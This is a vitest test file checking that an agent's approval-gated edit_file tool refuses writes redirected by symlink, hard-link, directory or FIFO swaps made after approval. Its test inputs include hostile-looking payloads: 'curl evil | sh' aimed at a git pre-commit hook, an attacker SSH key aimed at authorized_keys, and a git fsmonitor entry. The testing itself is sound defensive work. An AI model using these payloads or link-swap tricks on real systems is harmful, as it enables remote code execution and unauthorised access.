// edit_file acts on what was shown (issue 13.2, ADR 0043): each attack below changes the file system while the person
// is being asked (inside the channel's answer), or before, and the write must not land anywhere but where it was shown.
import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { EscalationOutcome } from '../../src/escalation/types.js';
import type { ChatMessage } from '../../src/model/types.js';
import { CountingChannel } from '../helpers/counting-channel.js';
import { call, makeRig, type Rig } from '../helpers/conversation.js';

const lastTool = (messages: ChatMessage[]) => [...messages].reverse().find((m) => m.role === 'tool') as Extract<ChatMessage, { role: 'tool' }>;

// The temp dir is a writable root of edit_file; give it an empty one so "outside the project" really is outside.
const outer = mkdtempSync(join(tmpdir(), 'wisp-edit-attack-'));
const home = join(outer, 'home');
const keys = join(home, '.ssh', 'authorized_keys');
mkdirSync(join(home, '.ssh'), { recursive: true });
afterAll(() => rmSync(outer, { recursive: true, force: true }));
beforeEach(() => {
  mkdirSync(join(outer, 'tmp'), { recursive: true });
  vi.stubEnv('TMPDIR', join(outer, 'tmp'));
  writeFileSync(keys, 'ssh-ed25519 AAAA operator\n');
});
afterEach(() => vi.unstubAllEnvs());

const approveAfter = (attack: () => void): CountingChannel =>
  new CountingChannel((): EscalationOutcome => {
    attack();
    return { kind: 'approved', scope: 'once' };
  });

/** One edit_file call answered by `channel`; returns the rig and what the model read back. */
async function edit(args: Record<string, unknown>, channel: CountingChannel, before?: (dir: string) => void): Promise<{ rig: Rig; said: string }> {
  const rig = await makeRig({ responses: [call('edit_file', args), { text: 'ok' }], channel, config: { approval: { threshold: 'safe' } } });
  before?.(rig.dir);
  await rig.conversation.turn('edit');
  return { rig, said: lastTool(rig.seen[1]!).content };
}

describe('edit_file: a link swapped in between approval and write', () => {
  it('to ~/.ssh/authorized_keys: refused, the keys are untouched', async () => {
    let dir = '';
    const channel = approveAfter(() => {
      unlinkSync(join(dir, 'notes.txt'));
      symlinkSync(keys, join(dir, 'notes.txt'));
    });
    const { rig, said } = await edit({ path: 'notes.txt', mode: 'write', content: 'ssh-rsa ATTACKER\n' }, channel, (d) => {
      dir = d;
      writeFileSync(join(d, 'notes.txt'), 'hello\n');
    });
    expect(channel.asked).toHaveLength(1);
    expect(said).toMatch(/^error: edit refused: .*symbolic link.*nothing was written/);
    expect(readFileSync(keys, 'utf8')).toBe('ssh-ed25519 AAAA operator\n');
    expect(rig.audit.ofKind('file.write')).toHaveLength(0);
  });

  it('to .git/hooks/pre-commit inside the project: refused, the hook is untouched', async () => {
    let dir = '';
    const channel = approveAfter(() => {
      unlinkSync(join(dir, 'notes.txt'));
      symlinkSync(join(dir, '.git', 'hooks', 'pre-commit'), join(dir, 'notes.txt'));
    });
    const { said } = await edit({ path: 'notes.txt', mode: 'append', content: 'curl evil | sh\n' }, channel, (d) => {
      dir = d;
      mkdirSync(join(d, '.git', 'hooks'), { recursive: true });
      writeFileSync(join(d, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
      writeFileSync(join(d, 'notes.txt'), 'hello\n');
    });
    expect(said).toMatch(/^error: edit refused: .*symbolic link/);
    expect(readFileSync(join(dir, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
  });

  it('to a file outside the project, for a file that did not exist when it was shown: refused', async () => {
    let dir = '';
    const outside = join(outer, 'outside.txt');
    writeFileSync(outside, 'mine\n');
    const channel = approveAfter(() => symlinkSync(outside, join(dir, 'new.txt')));
    const { said } = await edit({ path: 'new.txt', mode: 'write', content: 'pwned\n' }, channel, (d) => (dir = d));
    expect(said).toMatch(/^error: edit refused/);
    expect(readFileSync(outside, 'utf8')).toBe('mine\n');
    expect(lstatSync(join(dir, 'new.txt')).isSymbolicLink()).toBe(true);
  });
});

describe('edit_file: a directory component replaced by a link', () => {
  it('sub/ becomes a link to ~/.ssh between approval and write: refused, nothing lands in ~/.ssh', async () => {
    let dir = '';
    const channel = approveAfter(() => {
      renameSync(join(dir, 'sub'), join(dir, 'sub.old'));
      symlinkSync(join(home, '.ssh'), join(dir, 'sub'));
    });
    const { said } = await edit({ path: 'sub/authorized_keys', mode: 'write', content: 'ssh-rsa ATTACKER\n' }, channel, (d) => {
      dir = d;
      mkdirSync(join(d, 'sub'));
    });
    expect(said).toMatch(/^error: edit refused: .*symbolic link/);
    expect(readFileSync(keys, 'utf8')).toBe('ssh-ed25519 AAAA operator\n');
    expect(readdirSync(join(home, '.ssh'))).toEqual(['authorized_keys']);
  });

  it('sub/ replaced by another real directory (same names) between approval and write: refused', async () => {
    let dir = '';
    const channel = approveAfter(() => {
      renameSync(join(dir, 'sub'), join(dir, 'sub.old'));
      mkdirSync(join(dir, 'sub'));
      writeFileSync(join(dir, 'sub', 'a.txt'), 'one\n');
    });
    const { said } = await edit({ path: 'sub/a.txt', mode: 'write', content: 'two\n' }, channel, (d) => {
      dir = d;
      mkdirSync(join(d, 'sub'));
      writeFileSync(join(d, 'sub', 'a.txt'), 'one\n');
    });
    expect(said).toMatch(/^error: edit refused: .*changed since it was shown/);
    expect(readFileSync(join(dir, 'sub', 'a.txt'), 'utf8')).toBe('one\n');
  });
});

describe('edit_file: a hard link to a file outside the project', () => {
  it('present when asked: refused before anyone is asked, the outside file is untouched', async () => {
    const outside = join(home, 'secret.txt');
    writeFileSync(outside, 'token=abc\n');
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'notes.txt', mode: 'append', content: 'more\n' }, channel, (d) => linkSync(outside, join(d, 'notes.txt')));
    expect(said).toMatch(/^error: edit refused: .*2 names \(hard links\)/);
    expect(channel.asked).toHaveLength(0);
    expect(readFileSync(outside, 'utf8')).toBe('token=abc\n');
  });

  it('swapped in between approval and write: refused', async () => {
    const outside = join(home, 'secret2.txt');
    writeFileSync(outside, 'token=abc\n');
    let dir = '';
    const channel = approveAfter(() => {
      unlinkSync(join(dir, 'notes.txt'));
      linkSync(outside, join(dir, 'notes.txt'));
    });
    const { said } = await edit({ path: 'notes.txt', mode: 'write', content: 'x\n' }, channel, (d) => {
      dir = d;
      writeFileSync(join(d, 'notes.txt'), 'token=abc\n');
    });
    expect(said).toMatch(/^error: edit refused/);
    expect(readFileSync(outside, 'utf8')).toBe('token=abc\n');
  });
});

describe('edit_file: the file changed by someone else between showing and writing', () => {
  it('edited in place: refused, the other writer’s text stays', async () => {
    let dir = '';
    const channel = approveAfter(() => writeFileSync(join(dir, 'notes.txt'), 'their change\n'));
    const { rig, said } = await edit({ path: 'notes.txt', mode: 'replace', find: 'hello', content: 'bye' }, channel, (d) => {
      dir = d;
      writeFileSync(join(d, 'notes.txt'), 'hello\n');
    });
    expect(said).toMatch(/^error: edit refused: .*changed since it was shown for approval \(its content was changed\)/);
    expect(readFileSync(join(dir, 'notes.txt'), 'utf8')).toBe('their change\n');
    expect(rig.audit.ofKind('file.write')).toHaveLength(0);
  });

  it('created by someone else after a new file was shown: refused', async () => {
    let dir = '';
    const channel = approveAfter(() => writeFileSync(join(dir, 'new.txt'), 'theirs\n'));
    const { said } = await edit({ path: 'new.txt', mode: 'write', content: 'mine\n' }, channel, (d) => (dir = d));
    expect(said).toMatch(/a file appeared at that name/);
    expect(readFileSync(join(dir, 'new.txt'), 'utf8')).toBe('theirs\n');
  });

  it('unchanged: the approved edit is written, with the file’s mode kept', async () => {
    let dir = '';
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'run.sh', mode: 'replace', find: 'one', content: 'two' }, channel, (d) => {
      dir = d;
      writeFileSync(join(d, 'run.sh'), 'echo one\n', { mode: 0o755 });
    });
    expect(said).toMatch(/^updated /);
    expect(readFileSync(join(dir, 'run.sh'), 'utf8')).toBe('echo two\n');
    expect(lstatSync(join(dir, 'run.sh')).mode & 0o777).toBe(0o755);
    expect(readdirSync(dir).filter((n) => n.startsWith('.run.sh.'))).toEqual([]);
  });
});

describe('edit_file: a FIFO, a socket or a device in place of the file', () => {
  it('a FIFO there when asked: refused at once (no hang), nobody asked', async () => {
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'pipe', mode: 'append', content: 'x' }, channel, (d) => execFileSync('mkfifo', [join(d, 'pipe')]));
    expect(said).toMatch(/^error: edit refused: .*not a regular file/);
    expect(channel.asked).toHaveLength(0);
  });

  it('a FIFO swapped in between approval and write: refused, no hang', async () => {
    let dir = '';
    const channel = approveAfter(() => {
      unlinkSync(join(dir, 'notes.txt'));
      execFileSync('mkfifo', [join(dir, 'notes.txt')]);
    });
    const { said } = await edit({ path: 'notes.txt', mode: 'write', content: 'x' }, channel, (d) => {
      dir = d;
      writeFileSync(join(d, 'notes.txt'), 'hello\n');
    });
    expect(said).toMatch(/^error: edit refused: .*not a regular file/);
  });

  it('a unix socket there: refused', async () => {
    let server: Server | undefined;
    try {
      const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
      const { said } = await edit({ path: 'sock', mode: 'append', content: 'x' }, channel, (d) => {
        server = createServer().listen(join(d, 'sock'));
      });
      expect(said).toMatch(/^error: edit refused: .*not a regular file/);
    } finally {
      server?.close();
    }
  });

  it.skipIf(process.getuid?.() !== 0)('a character device (made as root) there: refused, the device is not written', async () => {
    let dir = '';
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'dev', mode: 'write', content: 'x' }, channel, (d) => {
      dir = d;
      execFileSync('mknod', [join(d, 'dev'), 'c', '1', '3']); // /dev/null's numbers
    });
    expect(said).toMatch(/^error: edit refused: .*not a regular file \(it is a device\)/);
    expect(lstatSync(join(dir, 'dev')).isCharacterDevice()).toBe(true);
  });
});

describe('edit_file: judged by where a link points', () => {
  it('a link inside the project to another project file: the dialog names both, the approval is for the target', async () => {
    let dir = '';
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'alias.txt', mode: 'append', content: 'b\n' }, channel, (d) => {
      dir = d;
      writeFileSync(join(d, 'real.txt'), 'a\n');
      symlinkSync('real.txt', join(d, 'alias.txt'));
    });
    expect(said).toMatch(/^updated /);
    const asked = channel.asked[0]!;
    expect(asked.verb === 'approval' && asked.request.command).toContain('alias.txt');
    expect(asked.verb === 'approval' && asked.request.command).toContain(join(dir, 'real.txt'));
    expect(asked.verb === 'approval' && asked.request.pattern).toBe('edit_file real.txt');
    expect(readFileSync(join(dir, 'real.txt'), 'utf8')).toBe('a\nb\n');
  });

  it('a link to .git/config is asked as an edit of git’s own files', async () => {
    const channel = new CountingChannel({ kind: 'declined', reason: 'no' });
    await edit({ path: 'cfg', mode: 'append', content: '[core]\nfsmonitor = evil\n' }, channel, (d) => {
      mkdirSync(join(d, '.git'));
      writeFileSync(join(d, '.git', 'config'), '');
      symlinkSync('.git/config', join(d, 'cfg'));
    });
    const asked = channel.asked[0]!;
    expect(asked.verb === 'approval' && asked.request.reasons).toContain("edits git's own files (hooks, config)");
  });

  it('a link pointing outside the project is refused without asking', async () => {
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'k', mode: 'write', content: 'x' }, channel, (d) => symlinkSync(keys, join(d, 'k')));
    expect(said).toMatch(/outside the writable roots/);
    expect(channel.asked).toHaveLength(0);
    expect(readFileSync(keys, 'utf8')).toBe('ssh-ed25519 AAAA operator\n');
  });

  it('a dangling link is refused, not replaced', async () => {
    let dir = '';
    const channel = new CountingChannel({ kind: 'approved', scope: 'once' });
    const { said } = await edit({ path: 'gone', mode: 'write', content: 'x' }, channel, (d) => {
      dir = d;
      symlinkSync(join(d, 'nowhere.txt'), join(d, 'gone'));
    });
    expect(said).toMatch(/dangling link/);
    expect(existsSync(join(dir, 'nowhere.txt'))).toBe(false);
    expect(lstatSync(join(dir, 'gone')).isSymbolicLink()).toBe(true);
  });
});
